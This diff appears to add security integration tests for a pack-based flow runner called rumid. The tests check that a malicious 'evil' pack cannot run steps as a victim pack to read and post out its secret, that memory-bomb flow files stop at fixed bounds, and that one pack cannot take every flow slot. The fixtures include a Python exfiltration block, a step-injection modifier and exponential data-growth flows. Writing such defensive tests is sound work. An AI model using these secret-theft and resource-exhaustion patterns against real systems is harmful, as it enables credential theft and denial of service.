@@ -419,3 +419,498 @@ fn store_writes_stop_at_the_packs_quota() {
     let out = home.ctl_stdin(&["secrets", "set", "OPERATOR"], "value\n");
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
 }
+
+/// Scheduled runs of `flow_execution/flow_run` audit lines, for one flow.
+fn scheduled_runs(home: &TestHome, flow_id: &str) -> Vec<serde_json::Value> {
+    home.audit_actions("flow_execution", "flow_run")
+        .into_iter()
+        .filter(|e| e["details"]["trigger"] == "schedule" && e["flow_id"] == flow_id)
+        .collect()
+}
+
+/// Seconds since the start of the current UTC minute.
+fn second_of_minute() -> f64 {
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap();
+    (now.as_secs() % 60) as f64 + f64::from(now.subsec_millis()) / 1000.0
+}
+
+/// A stall across a minute boundary: rumid is stopped (SIGSTOP) from second :58.3 to :01.5,
+/// so no scheduler tick lands in second :00. The `* * * * *` flow still runs for that
+/// minute, once.
+#[test]
+fn a_cron_run_survives_a_stall_across_the_minute_boundary() {
+    use nix::sys::signal::{Signal, kill};
+    let home = TestHome::new();
+    home.add_pack("clock");
+    home.write(
+        "ecosystem/clock/flows/minute.flow.yaml",
+        "flow_id: clock.minute\nschedule: {cron: '* * * * *'}\nsteps:\n  - {id: s, type: set, input: {key: v, value: 1}}\n",
+    );
+    let rumid = Rumid::start(&home);
+    assert_eq!(rumid.post("/api/packs/clock/approve", None).status, 200);
+    rumi_tests::eventually("the scheduled flow", patience(), || {
+        (rumid.get("/api/flows").body["data"]["count"] == 1).then_some(())
+    })
+    .unwrap();
+    // Wait for second :58.3 of a minute (of the next one if that is already past).
+    let s = second_of_minute();
+    let wait = if s < 58.3 { 58.3 - s } else { 60.0 - s + 58.3 };
+    std::thread::sleep(std::time::Duration::from_secs_f64(wait));
+    let before = scheduled_runs(&home, "clock.minute").len();
+    let pid = nix::unistd::Pid::from_raw(rumid.pid() as i32);
+    kill(pid, Signal::SIGSTOP).unwrap();
+    std::thread::sleep(std::time::Duration::from_secs_f64(60.0 - second_of_minute() + 1.5));
+    kill(pid, Signal::SIGCONT).unwrap();
+    assert!(second_of_minute() >= 1.0, "the stall covered second :00");
+    rumi_tests::eventually("the run of the stalled minute", patience(), || {
+        (scheduled_runs(&home, "clock.minute").len() > before).then_some(())
+    })
+    .unwrap();
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    let runs = scheduled_runs(&home, "clock.minute");
+    assert_eq!(runs.len(), before + 1, "exactly one run caught up: {runs:?}");
+    assert_eq!(runs[before]["success"], true);
+}
+
+/// What an exfiltrating block does: posts `s` through its own pack's egress grant.
+const EXFIL: &str = r#"
+import rumi_syscall
+
+def run(data, context):
+    r = rumi_syscall.post_json(data["url"], {"s": data.get("s")})
+    return {"status": r.get("status_code"), "error": r.get("error_type")}
+"#;
+
+/// Running as another pack: `evil` (no capability grant, an egress grant) injects a
+/// `function` step with `owner_pack: victim` into its own scheduled flow through its own
+/// modifier, to read victim's secret every 10 s and post it out. Also tried: the same in a
+/// flow file, a `python_file_call` of victim's code, and sub-flows (victim's own flow, an
+/// official flow naming victim) called from evil's flows. Nothing runs as victim for evil,
+/// each refusal is audited, and victim's flow and the operator's flow keep reading the secret.
+#[test]
+fn a_pack_never_runs_steps_as_another_pack_whatever_adds_them() {
+    let up = rumi_tests::upstream::Upstream::start();
+    let secret = "victim-secret-7f3a";
+    let home = TestHome::new();
+    victim(&home);
+    home.write(
+        "ecosystem/victim/flows/read.flow.yaml",
+        "flow_id: victim.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.write(
+        "flows/ops_read.flow.yaml",
+        "flow_id: ops.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.add_pack("evil");
+    home.write("ecosystem/evil/backend/blocks/exfil.py", EXFIL);
+    let url = up.url("/echo");
+    let exfil = |when: &str| {
+        format!(
+            "  - {{id: out, type: python_file_call, priority: 900, owner_pack: evil, file: exfil.py, when: \"{when}\", input: {{url: \"{url}\", s: \"{when}\"}}}}\n"
+        )
+    };
+    home.write(
+        "ecosystem/evil/flows/tick.flow.yaml",
+        &format!(
+            "flow_id: evil.tick\nschedule: {{interval: 10}}\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: started, value: true}}}}\n{}",
+            exfil("$ctx.s.value")
+        ),
+    );
+    home.write(
+        "ecosystem/evil/flows/modifiers/steal.modifier.yaml",
+        "modifier_id: steal\ntarget_flow_id: evil.tick\naction: inject_after\ntarget_step_id: a\nstep: {id: grab, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.write(
+        "ecosystem/evil/flows/direct.flow.yaml",
+        "flow_id: evil.direct\nsteps:\n  - {id: b, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
+    );
+    for (id, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
+        home.write(
+            &format!("ecosystem/evil/flows/{id}.flow.yaml"),
+            &format!(
+                "flow_id: {id}\nsteps:\n  - {{id: call, type: flow, flow: {sub}, output: got}}\n{}",
+                exfil("$ctx.got.s.value")
+            ),
+        );
+    }
+    home.write(
+        "ecosystem/evil/flows/ping.flow.yaml",
+        &format!(
+            "flow_id: evil.ping\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: s, value: {{value: harmless}}}}}}\n{}",
+            exfil("$ctx.s.value")
+        ),
+    );
+    let rumid = Rumid::builder(&home)
+        .env("RUMI_EGRESS_ALLOW_CIDRS", "127.0.0.1/32")
+        .spawn()
+        .unwrap();
+    let r = rumid.post("/api/secrets/set", Some(&json!({"key": "TOKEN", "value": secret})));
+    assert_eq!(r.status, 200, "{:?}", r.body);
+    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
+    rumid.grant_capability("victim", "secrets.get", json!({"allowed_keys": ["TOKEN"]}));
+    rumid.approve_and_grant("evil", &["127.0.0.1"], &[up.addr.port()]);
+    let flows = rumi_tests::eventually("evil's flows", patience(), || {
+        let f = rumid.get("/api/flows").body["data"].clone();
+        f["flows"]
+            .as_array()?
+            .iter()
+            .any(|f| f["flow_id"] == "evil.ping")
+            .then_some(f)
+    })
+    .unwrap();
+    rumi_tests::wait_socket(&rumid.capability_socket(&home, "victim")).unwrap();
+    rumi_tests::wait_socket(&rumid.egress_socket(&home, "evil")).unwrap();
+
+    // Refused at load, on the flows as modified: the modified flow and the flow file.
+    let ids: Vec<&str> = flows["flows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["flow_id"].as_str().unwrap())
+        .collect();
+    assert!(!ids.contains(&"evil.tick") && !ids.contains(&"evil.direct"), "{ids:?}");
+    let diags = flows["diagnostics"].to_string();
+    assert!(
+        diags.contains(r#"step \"grab\" (put there by modifier steal) runs as \"victim\", but a flow of pack evil may only run steps as evil"#),
+        "{diags}"
+    );
+    assert!(diags.contains(r#"step \"b\" runs as \"victim\""#), "{diags}");
+    assert_eq!(rumid.run_flow("evil.tick", json!({}), 30.0).status, 404);
+    let refused = home.audit_actions("security", "step_owner_refused");
+    let at_load = |flow: &str| {
+        refused
+            .iter()
+            .find(|e| e["flow_id"] == flow && e["details"]["stage"] == "load")
+            .unwrap_or_else(|| panic!("no load refusal of {flow}: {refused:?}"))
+            .clone()
+    };
+    let tick = at_load("evil.tick");
+    assert_eq!(
+        (
+            &tick["owner_pack"],
+            &tick["modifier_id"],
+            &tick["details"]["requested_owner"],
+            &tick["step_id"]
+        ),
+        (&json!("evil"), &json!("steal"), &json!("victim"), &json!("grab"))
+    );
+    assert_eq!(at_load("evil.direct")["details"]["requested_owner"], "victim");
+
+    // The exfiltration path itself works (a harmless value goes out) ...
+    let r = rumid.run_flow("evil.ping", json!({}), 60.0);
+    assert_eq!(r.status, 200, "{:?}", r.body);
+    assert_eq!(up.hits(), 1, "the egress grant works: {:?}", r.body);
+    // ... but sub-flows run nothing as victim for evil: victim's own flow, an official one.
+    for (relay, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
+        let r = rumid.run_flow(relay, json!({}), 60.0);
+        assert_eq!(r.status, 200, "{:?}", r.body);
+        assert!(!r.body.to_string().contains(secret), "{:?}", r.body);
+        let e = home
+            .audit_actions("security", "step_owner_refused")
+            .into_iter()
+            .find(|e| e["flow_id"] == sub && e["details"]["stage"] == "run")
+            .unwrap_or_else(|| panic!("no run refusal under {relay}"));
+        assert_eq!(e["owner_pack"], "evil");
+        assert_eq!(e["details"]["call_chain"], json!([relay, sub]));
+    }
+    // One schedule interval later, still nothing left (the stealing flow never loaded).
+    std::thread::sleep(std::time::Duration::from_secs(11));
+    assert_eq!(up.hits(), 1, "the secret never went out");
+    let calls = home.audit_actions("permission", "permission_execute");
+    assert!(
+        calls
+            .iter()
+            .all(|c| c["details"]["request_id"] != "flow:evil.tick:grab"),
+        "{calls:?}"
+    );
+
+    // Meanwhile victim's own flow and the operator's flow read the secret.
+    for id in ["victim.read", "ops.read"] {
+        let r = rumid.run_flow(id, json!({}), 30.0);
+        assert_eq!(r.status, 200, "{:?}", r.body);
+        assert_eq!(r.body["data"]["result"]["s"]["value"], secret, "{id}: {:?}", r.body);
+    }
+}
+
+/// rumid's resident set and its peak so far (`VmRSS`, `VmHWM`), in KiB.
+fn rss_kib(pid: u32) -> (u64, u64) {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let field = |name: &str| -> u64 {
+        status
+            .lines()
+            .find_map(|l| l.strip_prefix(name))
+            .and_then(|v| v.trim().trim_end_matches(" kB").trim().parse().ok())
+            .unwrap_or_else(|| panic!("{name} in {status}"))
+    };
+    (field("VmRSS:"), field("VmHWM:"))
+}
+
+/// Data-only flows of a pack with no code run and no grant: each the worst a flow file can
+/// build. `bomb.quad`: ten `set` steps, each repeating the previous value four times (the
+/// reproduced 17 → 448 MB); `bomb.list`: the same with a list of four references;
+/// `bomb.double`: twenty sub-flow calls, each result holding a copy of the whole context;
+/// `bomb.deep`: a value wrapped in itself step after step; `bomb.copy`: 16,384 values copied
+/// from key to key a thousand times (never too much at once, seconds of work); `bomb.steps`:
+/// 200 sub-flow calls of a 100-step flow (20,000 steps of nothing).
+fn bomb_pack(home: &TestHome) {
+    home.add_pack("bomb");
+    let seed = "x".repeat(250);
+    let mut quad = format!(
+        "flow_id: bomb.quad\nsteps:\n  - {{id: s00, type: set, priority: 0, input: {{key: v, value: {seed}}}}}\n"
+    );
+    let mut list = quad.replace("bomb.quad", "bomb.list");
+    let mut deep =
+        "flow_id: bomb.deep\nsteps:\n  - {id: s00, type: set, priority: 0, input: {key: v, value: 0}}\n".to_owned();
+    for i in 1..=40 {
+        // Ten are enough: 250 bytes times 4^10 is 262 MB.
+        if i <= 10 {
+            quad.push_str(&format!(
+            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: \"${{ctx.v}}${{ctx.v}}${{ctx.v}}${{ctx.v}}\"}}}}\n"
+        ));
+            list.push_str(&format!(
+            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [\"$ctx.v\", \"$ctx.v\", \"$ctx.v\", \"$ctx.v\"]}}}}\n"
+        ));
+        }
+        deep.push_str(&format!(
+            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [[\"$ctx.v\"]]}}}}\n"
+        ));
+    }
+    home.write("ecosystem/bomb/flows/quad.flow.yaml", &quad);
+    // Never too much at once, but 16,384 small values copied from key to key 1000 times.
+    let mut copy =
+        "flow_id: bomb.copy\nsteps:\n  - {id: s00, type: set, priority: 0, input: {key: v, value: x}}\n".to_owned();
+    for i in 1..=7 {
+        copy.push_str(&format!(
+            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [\"$ctx.v\", \"$ctx.v\", \"$ctx.v\", \"$ctx.v\"]}}}}\n"
+        ));
+    }
+    for i in 0..1000 {
+        copy.push_str(&format!(
+            "  - {{id: c{i:04}, type: set, priority: 100, input: {{key: w, value: \"$ctx.v\"}}}}\n"
+        ));
+    }
+    home.write("ecosystem/bomb/flows/copy.flow.yaml", &copy);
+    home.write("ecosystem/bomb/flows/list.flow.yaml", &list);
+    home.write("ecosystem/bomb/flows/deep.flow.yaml", &deep);
+    let mut double = format!(
+        "flow_id: bomb.double\nsteps:\n  - {{id: s00, type: set, priority: 0, input: {{key: v, value: {seed}}}}}\n"
+    );
+    for i in 1..=20 {
+        double.push_str(&format!(
+            "  - {{id: s{i:02}, type: flow, priority: {i}, flow: bomb.noop, output: c{i:02}}}\n"
+        ));
+    }
+    home.write("ecosystem/bomb/flows/double.flow.yaml", &double);
+    home.write(
+        "ecosystem/bomb/flows/noop.flow.yaml",
+        "flow_id: bomb.noop\nsteps:\n  - {id: n, type: set, input: {key: n, value: 1}}\n",
+    );
+    let mut hundred = "flow_id: bomb.hundred\nsteps:\n".to_owned();
+    let mut steps = "flow_id: bomb.steps\nsteps:\n".to_owned();
+    for i in 0..200 {
+        if i < 100 {
+            hundred.push_str(&format!(
+                "  - {{id: h{i:03}, type: set, input: {{key: h, value: {i}}}}}\n"
+            ));
+        }
+        steps.push_str(&format!("  - {{id: c{i:03}, type: flow, flow: bomb.hundred}}\n"));
+    }
+    home.write("ecosystem/bomb/flows/hundred.flow.yaml", &hundred);
+    home.write("ecosystem/bomb/flows/steps.flow.yaml", &steps);
+}
+
+/// A memory bomb built of flow data alone: every bomb stops at the bound with
+/// `RUMI-FLOW-008` (or `RUMI-FLOW-009` for the step count), rumid's peak memory grows by
+/// far less than the unbounded 430 MB, and meanwhile a well-behaved pack's flow and the
+/// operator's flow answer correctly, again and again.
+#[test]
+fn flow_data_cannot_blow_up_rumids_memory() {
+    let home = TestHome::new();
+    bomb_pack(&home);
+    victim(&home);
+    home.write(
+        "flows/ops.flow.yaml",
+        "flow_id: ops.sum\nsteps:\n  - {id: s, type: set, input: {key: total, value: \"${ctx.a}+${ctx.b}\"}}\n",
+    );
+    let rumid = Rumid::start(&home);
+    for p in ["bomb", "victim"] {
+        assert_eq!(rumid.post(&format!("/api/packs/{p}/approve"), None).status, 200);
+    }
+    rumi_tests::eventually("the flows", patience(), || {
+        (rumid.get("/api/flows").body["data"]["count"] == 10).then_some(())
+    })
+    .unwrap();
+    let (rss_before, _) = rss_kib(rumid.pid());
+
+    let expect = |flow: &str, code: &str, text: &str| {
+        let r = rumid.run_flow(flow, json!({}), 60.0);
+        assert_eq!((r.status, r.code()), (422, code), "{flow}: {:?}", r.body);
+        let msg = r.body["error"]["message"].as_str().unwrap().to_owned();
+        assert!(msg.contains(text), "{flow}: {msg}");
+        msg
+    };
+    let quad = expect("bomb.quad", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
+    assert!(
+        quad.starts_with("step s0"),
+        "stopped within the first ten steps: {quad}"
+    );
+    expect("bomb.list", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
+    expect("bomb.double", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
+    expect("bomb.deep", "RUMI-FLOW-008", "nested deeper than 64 levels");
+    expect(
+        "bomb.copy",
+        "RUMI-FLOW-008",
+        "bytes in all (32 times RUMI_MAX_CONTEXT_BYTES)",
+    );
+    expect("bomb.steps", "RUMI-FLOW-009", "10000 steps");
+    // The inputs count too: 1 MiB of empty lists is 300,000 values, held twice.
+    let many = "[],".repeat(300_000);
+    let body = format!("{{\"inputs\": {{\"l\": [{}]}}}}", many.trim_end_matches(','));
+    assert!(body.len() < 1024 * 1024);
+    let r = rumid.request(
+        "POST",
+        "/api/flows/ops.sum/run",
+        Some(&rumid.token),
+        Some(body.as_bytes()),
+        Some("application/json"),
+    );
+    assert_eq!((r.status, r.code()), (422, "RUMI-FLOW-008"), "{:?}", r.body);
+    assert!(r.body.to_string().contains("the run's inputs"), "{:?}", r.body);
+    let failed = home.audit_actions("flow_execution", "flow_run");
+    assert!(
+        failed
+            .iter()
+            .any(|e| e["flow_id"] == "bomb.quad" && e["success"] == false),
+        "{failed:?}"
+    );
+
+    // Four attackers keep bombing while the pack and the operator work.
+    let stop = Arc::new(AtomicBool::new(false));
+    let attackers: Vec<_> = ["bomb.quad", "bomb.list", "bomb.double", "bomb.steps"]
+        .into_iter()
+        .map(|flow| {
+            let (base, token, stop) = (rumid.base.clone(), rumid.token.clone(), stop.clone());
+            std::thread::spawn(move || {
+                let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
+                let mut n = 0;
+                while !stop.load(Ordering::Relaxed) {
+                    let r = agent
+                        .post(&format!("{base}/api/flows/{flow}/run"))
+                        .header("Authorization", &format!("Bearer {token}"))
+                        .send_json(json!({"timeout": 60}))
+                        .expect("request");
+                    assert_eq!(r.status().as_u16(), 422, "{flow}");
+                    n += 1;
+                }
+                n
+            })
+        })
+        .collect();
+    for i in 0..20 {
+        let r = rumid.run_flow("victim.run", json!({}), 60.0);
+        assert_eq!(r.body["data"]["result"]["out"]["code"], "approved", "{:?}", r.body);
+        let r = rumid.run_flow("ops.sum", json!({"a": i, "b": 2}), 60.0);
+        assert_eq!(r.body["data"]["result"]["total"], format!("{i}+2"), "{:?}", r.body);
+    }
+    stop.store(true, Ordering::Relaxed);
+    let bombs: usize = attackers.into_iter().map(|t| t.join().unwrap()).sum();
+    assert!(bombs >= 4, "{bombs} bombs");
+    let (_, peak) = rss_kib(rumid.pid());
+    assert!(
+        peak < rss_before + 128 * 1024,
+        "peak {peak} KiB after {bombs} bombs, from {rss_before} KiB"
+    );
+}
+
+/// The sum of a metric's samples whose labels contain each of `labels`.
+fn metric(text: &str, name: &str, labels: &[&str]) -> f64 {
+    text.lines()
+        .filter(|l| l.starts_with(&format!("{name}{{")) && labels.iter().all(|s| l.contains(s)))
+        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
+        .sum()
+}
+
+/// Starving other packs: `hog` schedules ten flows every 10 s whose blocks each sleep 280 s,
+/// to hold every flow slot and container. It gets its share only: four flow slots (the
+/// other six ticks are skipped and counted), and of those four only two run a block
+/// (`RUMI_MAX_CONTAINERS_PER_PACK=2`: the others wait). Its own API run answers 429
+/// `RUMI-FLOW-010`; a well-behaved pack's block flow and the operator's flows answer at once.
+#[test]
+fn one_pack_cannot_take_every_flow_slot_or_container() {
+    let home = TestHome::new();
+    victim(&home);
+    home.add_pack("hog");
+    home.write(
+        "ecosystem/hog/backend/blocks/sleep.py",
+        "import time\n\ndef run(data, context):\n    time.sleep(280)\n    return 'woke'\n",
+    );
+    for i in 0..10 {
+        home.write(
+            &format!("ecosystem/hog/flows/f{i}.flow.yaml"),
+            &format!("flow_id: hog.f{i}\nschedule: {{interval: 10}}\nsteps:\n  - {{id: s, type: python_file_call, owner_pack: hog, file: sleep.py, timeout_seconds: 290}}\n"),
+        );
+    }
+    home.write(
+        "flows/ops.flow.yaml",
+        "flow_id: ops.block\nsteps:\n  - {id: s, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
+    );
+    let rumid = Rumid::builder(&home)
+        .env("RUMI_MAX_CONTAINERS_PER_PACK", "2")
+        .spawn()
+        .unwrap();
+    for p in ["victim", "hog"] {
+        assert_eq!(rumid.post(&format!("/api/packs/{p}/approve"), None).status, 200);
+    }
+    rumi_tests::eventually("the flows", patience(), || {
+        (rumid.get("/api/flows").body["data"]["count"] == 12).then_some(())
+    })
+    .unwrap();
+    // The first ticks come 10 s after loading: four start, six are skipped for the share.
+    let metrics = rumi_tests::eventually("hog's ticks skipped", std::time::Duration::from_secs(40), || {
+        let m = rumid.metrics_text();
+        (metric(&m, "rumi_flow_schedule_skipped_total", &["reason=\"pack_share\""]) >= 6.0
+            && metric(&m, "rumi_containers_running", &["pack_id=\"hog\""]) == 2.0)
+            .then_some(m)
+    })
+    .unwrap_or_else(|e| panic!("{e}\n{}", rumid.metrics_text()));
+    assert_eq!(
+        metric(&metrics, "rumi_flow_schedule_skipped_total", &["reason=\"slots\""]),
+        0.0,
+        "never every slot: {metrics}"
+    );
+    let warned = rumid
+        .log_text()
+        .lines()
+        .filter(|l| l.contains("scheduled run skipped (counted"))
+        .count();
+    assert!(
+        (6..=10).contains(&warned),
+        "one warning per skipped flow, not per tick: {warned}"
+    );
+
+    // While hog holds its share: its own run is refused, everyone else runs.
+    let r = rumid.run_flow("hog.f0", json!({}), 30.0);
+    assert_eq!((r.status, r.code()), (429, "RUMI-FLOW-010"), "{:?}", r.body);
+    assert!(r.body.to_string().contains("RUMI_MAX_FLOWS_PER_PACK"), "{:?}", r.body);
+    for _ in 0..3 {
+        for id in ["victim.run", "ops.block"] {
+            let r = rumid.run_flow(id, json!({}), 60.0);
+            assert_eq!(r.status, 200, "{id}: {:?}", r.body);
+            assert_eq!(
+                r.body["data"]["result"]["out"]["code"], "approved",
+                "{id}: {:?}",
+                r.body
+            );
+        }
+    }
+    // Still only hog's share, ticks after ticks.
+    std::thread::sleep(std::time::Duration::from_secs(11));
+    let m = rumid.metrics_text();
+    assert_eq!(metric(&m, "rumi_containers_running", &["pack_id=\"hog\""]), 2.0, "{m}");
+    assert!(
+        metric(&m, "rumi_flow_schedule_skipped_total", &["flow_id=\"hog."]) >= 12.0,
+        "{m}"
+    );
+}
